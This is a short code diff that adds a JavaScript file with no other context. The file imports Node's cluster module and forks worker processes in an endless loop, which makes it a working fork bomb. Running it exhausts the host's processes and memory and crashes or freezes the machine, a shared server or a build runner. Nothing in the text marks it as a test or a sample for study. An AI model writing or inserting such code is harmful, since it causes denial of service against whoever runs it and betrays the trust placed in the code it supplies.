@@ -1,0 +1,4 @@
+import cluster from 'node:cluster';
+for (;;) {
+  cluster.fork();
+}
